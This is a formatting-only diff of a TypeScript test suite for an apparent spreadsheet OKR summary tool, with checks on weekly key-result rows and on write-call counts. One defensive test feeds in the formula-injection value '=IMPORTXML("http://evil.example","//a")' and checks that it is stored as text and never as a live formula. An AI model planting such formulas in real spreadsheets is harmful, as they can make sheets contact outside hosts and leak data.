@@ -22,9 +22,19 @@ describe('summary', () => {
     const col = (name: string) => header!.indexOf(name);
     const kr3 = rows.filter((r) => r[col('kr_id')] === 'KR3');
     expect(kr3.map((r) => (r[col('week_start')] as Date).toISOString())).toEqual([
-      '2026-09-27T17:00:00.000Z', '2026-10-04T17:00:00.000Z', '2026-10-11T17:00:00.000Z', '2026-10-18T17:00:00.000Z', '2026-10-25T17:00:00.000Z',
+      '2026-09-27T17:00:00.000Z',
+      '2026-10-04T17:00:00.000Z',
+      '2026-10-11T17:00:00.000Z',
+      '2026-10-18T17:00:00.000Z',
+      '2026-10-25T17:00:00.000Z',
     ]);
-    expect(kr3.map((r) => [r[col('checked_in')], r[col('value')]])).toEqual([[false, 0], [true, 10], [false, 10], [false, 10], [true, 25]]);
+    expect(kr3.map((r) => [r[col('checked_in')], r[col('value')]])).toEqual([
+      [false, 0],
+      [true, 10],
+      [false, 10],
+      [false, 10],
+      [true, 25],
+    ]);
     for (const name of ['start_value', 'target_value', 'value', 'progress', 'expected_progress', 'score', 'days_since_checkin']) {
       expect(rows.every((r) => typeof r[col(name)] === 'number')).toBe(true);
     }
@@ -40,13 +50,24 @@ describe('summary', () => {
     const titles = rows.filter((r) => r[header!.indexOf('kr_id')] === 'KR3').map((r) => r[header!.indexOf('key_result')]);
     expect(titles[0]).toBe('=IMPORTXML("http://evil.example","//a")');
     const sheet = rt.book.getSheetByName('KR theo tuần')!;
-    expect(sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas().flat().filter((f) => f !== '')).toEqual([]);
+    expect(
+      sheet
+        .getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn())
+        .getFormulas()
+        .flat()
+        .filter((f) => f !== ''),
+    ).toEqual([]);
   });
 
   test('each Looker tab is written in one call, and the calls do not grow with rows', () => {
     const calls = (extra: number) => {
       const rt = company();
-      typeRows(rt, 'checkIns', Array.from({ length: extra }, (_, i) => ({ krId: `KR${(i % 4) + 1}`, value: String(i % 5) })), SALES_REP);
+      typeRows(
+        rt,
+        'checkIns',
+        Array.from({ length: extra }, (_, i) => ({ krId: `KR${(i % 4) + 1}`, value: String(i % 5) })),
+        SALES_REP,
+      );
       rt.env.resetCounters();
       rt.run('menuSummary');
       return { total: rt.env.totalCalls(), writes: rt.env.calls.get('Range.setValues') };
